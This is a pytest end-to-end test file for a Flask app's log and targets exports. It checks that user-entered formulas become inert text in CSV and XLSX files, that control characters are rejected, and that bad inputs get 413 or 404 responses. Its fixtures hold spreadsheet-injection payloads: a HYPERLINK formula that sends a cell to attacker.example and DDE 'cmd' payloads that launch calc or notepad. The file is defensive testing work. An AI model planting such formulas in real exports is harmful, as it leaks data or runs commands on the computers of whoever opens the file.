"""What a user types is data in every output: spreadsheets never get a formula, the log refuses
characters no output can carry, and old records holding them never break an export (F1, F6)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import text

from tests.conftest import run_cli
from tests.web.conftest import EDITOR, csrf_token, make_app, sign_in

pytestmark = pytest.mark.e2e  # real files, processes or HTTP: the outer loop

HOSTILE = {"lead": '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")',
           "with_whom": "+cmd|' /C calc'!A0", "note": "@SUM(1+1)",
           "next_step": "-2+3+cmd|' /C notepad'!'A1'"}
ENTRY = {"state": "FIN", "date": "2026-01-05", "stage": "contacted", "channel": "capital"}


def add(client: FlaskClient, **values: str):
    return client.post("/log", data={**ENTRY, **values, "csrf_token": csrf_token(client, "/log")})


def xlsx_cells(body: bytes, sheet: str | None = None) -> list:
    book = load_workbook(io.BytesIO(body))
    return [c for row in (book[sheet] if sheet else book.active).iter_rows() for c in row]


def test_a_formula_in_the_log_is_text_in_the_xlsx_export(editor: FlaskClient) -> None:
    assert add(editor, **HOSTILE).status_code == 302
    response = editor.get("/log/export.xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response.data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells}
    for value in HOSTILE.values():
        assert by_value[value].data_type == "s" and by_value[value].quotePrefix


def test_a_formula_in_the_log_is_inert_in_the_csv_export(editor: FlaskClient) -> None:
    assert add(editor, **HOSTILE).status_code == 302
    response = editor.get("/log/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # one charset (F18)
    row = next(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value


def test_the_csv_export_imports_back_as_it_was(editor: FlaskClient, tmp_path: Path) -> None:
    assert add(editor, **HOSTILE).status_code == 302
    exported = tmp_path / "export.csv"
    exported.write_bytes(editor.get("/log/export.csv").data)
    db = f"sqlite:///{tmp_path / 'other.sqlite3'}"
    assert run_cli("log", "--db", db, "import", str(exported)).exit_code == 0
    again = run_cli("log", "--db", db, "list", "--format", "json")
    record = json.loads(again.output)[0]
    assert {k: record[k] for k in HOSTILE} == HOSTILE


@pytest.mark.parametrize("char", ["\x01", "\x00", "\x07", "\ufffe", "\u202e"])
def test_control_characters_are_refused_at_the_form(editor: FlaskClient, char: str) -> None:
    response = add(editor, note=f"a{char}b")
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert f"note: the text holds U+{ord(char):04X}" in page
    assert "No record." in editor.get("/log").get_data(as_text=True)


def test_a_multi_line_note_from_a_browser_is_kept(editor: FlaskClient) -> None:
    assert add(editor, note="first line\r\nsecond line").status_code == 302
    assert "first line\nsecond line" in editor.get("/log/export.csv").get_data(as_text=True)


def test_an_old_record_with_a_control_character_breaks_no_export(editor: FlaskClient,
                                                                  app) -> None:
    assert add(editor, note="clean").status_code == 302
    with app.extensions["ccmkit"].log.engine.begin() as connection:  # as an older ccmkit stored it
        connection.execute(text("UPDATE log_entry SET note = :n"), {"n": "bell\x07 and \x00nul"})
    response = editor.get("/log/export.xlsx")
    assert response.status_code == 200
    assert "bell\ufffd and \ufffdnul" in [c.value for c in xlsx_cells(response.data)]
    assert "bell\ufffd and" in editor.get("/log/export.csv").get_data(as_text=True)


def test_a_hostile_fact_is_text_in_the_targets_exports(tmp_path: Path, monkeypatch) -> None:
    hostile = '=HYPERLINK("http://127.0.0.1:18999/?leak="&B2,"see source")'
    facts = tmp_path / "hostile_facts.csv"
    with facts.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([
            ("iso3", "fact", "value", "source_url", "source_title", "as_of", "quote"),
            ("USA", "stockpiles", "yes", "https://example.org/r", hostile, "2025-01-01",
             "@SUM(1+1)")])
    data = tmp_path / "dd"
    result = run_cli("facts", "import", str(facts), "--data-dir", str(data))
    assert result.exit_code == 0, result.output
    monkeypatch.setenv("CCMKIT_DATA_DIR", str(data))
    app = make_app(tmp_path)
    try:
        client = app.test_client()
        assert sign_in(client, EDITOR).status_code == 302
        body = client.get("/targets/export.xlsx?top=200").data
        cells = xlsx_cells(body, "Criteria")
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert any(c.value == hostile and c.quotePrefix for c in cells)
        rows = client.get("/targets/export.csv?top=200").get_data(as_text=True)
        assert "'" + hostile.replace('"', '""') in rows and hostile not in rows.replace(
            "'" + hostile.replace('"', '""'), "")
    finally:
        app.extensions["ccmkit"].jobs.shutdown()


def test_a_body_too_large_gets_the_413_page(client: FlaskClient) -> None:
    """F17: an oversized POST, even unauthenticated, is a 413 page, not a server error."""
    response = client.post("/login", data=b"x" * 1_200_000,
                           content_type="application/x-www-form-urlencoded")
    assert response.status_code == 413
    assert "What you sent is too large." in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/log/99999999999999999999999", "/log/0",
                                  "/log/9223372036854775808"])
def test_a_record_id_out_of_range_is_404(editor: FlaskClient, path: str) -> None:
    """F17: ids beyond what the database stores are no page, not a crash."""
    assert editor.get(path).status_code == 404
    token = csrf_token(editor, "/log")
    assert editor.post(path, data={**ENTRY, "csrf_token": token}).status_code == 404
    assert editor.post(path + "/remove", data={"csrf_token": token}).status_code == 404
